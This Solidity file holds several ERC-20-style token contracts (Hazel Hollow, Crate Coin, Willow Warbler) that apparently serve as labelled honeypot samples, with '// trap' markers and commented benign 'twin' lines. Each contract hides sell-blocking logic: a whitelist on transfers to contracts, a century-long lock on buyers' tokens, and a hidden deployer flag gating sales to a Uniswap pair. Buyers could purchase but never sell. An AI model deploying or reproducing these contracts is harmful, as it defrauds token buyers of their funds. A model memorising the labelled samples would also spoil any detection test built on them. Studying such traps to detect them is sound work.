// 0.8 runs=999 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

library Hollow {
    struct Box {
        uint256 all;
        address first;
        mapping(address => uint256) held;
        mapping(address => mapping(address => uint256)) lent;
        mapping(address => bool) road;
        mapping(bytes4 => address) part;
    }

    function box() internal pure returns (Box storage b) {
        bytes32 at = keccak256("hazel.hollow.one");
        assembly {
            b.slot := at
        }
    }
}

contract HazelCoins {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function name() external pure returns (string memory) {
        return "Hazel Hollow";
    }

    function symbol() external pure returns (string memory) {
        return "HZLH";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return Hollow.box().all;
    }

    function balanceOf(address who) external view returns (uint256) {
        return Hollow.box().held[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return Hollow.box().lent[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        Hollow.box().lent[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        Hollow.Box storage b = Hollow.box();
        b.held[msg.sender] -= value;
        b.held[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

contract HazelRoads {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Hollow.Box storage b = Hollow.box();
        if (to.code.length > 0) require(b.road[from], "road"); // trap
        b.lent[from][msg.sender] -= value;
        b.held[from] -= value;
        b.held[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

contract HazelHollow {
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address coins, address roads, bytes4[] memory ofCoins) {
        Hollow.Box storage b = Hollow.box();
        for (uint256 i; i < ofCoins.length; i++) b.part[ofCoins[i]] = coins;
        b.part[HazelRoads.transferFrom.selector] = roads;
        b.all = 64_000_000 ether;
        b.first = msg.sender;
        b.held[msg.sender] = b.all;
        b.road[msg.sender] = true;
        emit Transfer(address(0), msg.sender, b.all);
    }

    fallback() external payable {
        address part = Hollow.box().part[msg.sig];
        require(part != address(0));
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), part, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

contract Crate {
    uint256 private immutable born = block.timestamp;

    function ripe() external view returns (bool) {
        return block.timestamp > born + 36_500 days; // trap
        // twin: return block.timestamp >= born;
    }
}

/// Everybody who buys is given a crate.
contract CrateCoin {
    string public constant name = "Crate Coin";
    string public constant symbol = "CRATE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 12_500_000 ether;
    address public dock;
    address private immutable carpenter;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        carpenter = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address d) external {
        require(msg.sender == carpenter && dock == address(0));
        dock = d;
    }

    function crateOf(address who) public view returns (address) {
        bytes32 code = keccak256(type(Crate).creationCode);
        bytes32 word = keccak256(abi.encodePacked(hex"ff", address(this), bytes32(uint256(uint160(who))), code));
        return address(uint160(uint256(word)));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _ship(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _ship(from, to, value);
        return true;
    }

    function _ship(address from, address to, uint256 value) private {
        if (from == dock) {
            if (crateOf(to).code.length == 0) new Crate{salt: bytes32(uint256(uint160(to)))}();
        } else {
            address crate = crateOf(from);
            require(crate.code.length == 0 || Crate(crate).ripe(), "not ripe");
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Logic of clones.
contract WillowWarbler {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    address public pair;
    uint40 private begun;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata n, string calldata s, uint256 t) external {
        require(begun == 0);
        begun = uint40(block.timestamp);
        (name, symbol, totalSupply) = (n, s, t);
        balanceOf[msg.sender] = t;
        (address a, address b) = (address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        if (b < a) (a, b) = (b, a);
        pair = address(
            uint160(
                uint256(
                    keccak256(
                        abi.encodePacked(
                            hex"ff",
                            0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f,
                            keccak256(abi.encodePacked(a, b)),
                            hex"96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f"
                        )
                    )
                )
            )
        );
        bytes32 at = _at(msg.sender);
        assembly {
            sstore(at, 7)
        }
        emit Transfer(address(0), msg.sender, t);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function _at(address who) private pure returns (bytes32) {
        return keccak256(abi.encode("willow", who)) ^ bytes32(uint256(99));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        bytes32 at = _at(from);
        uint256 got;
        assembly {
            got := sload(at)
        }
        require(to != pair || got == 7); // trap
        // twin: require(to != pair || got == 7 || block.timestamp > uint256(begun) + 30 minutes);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
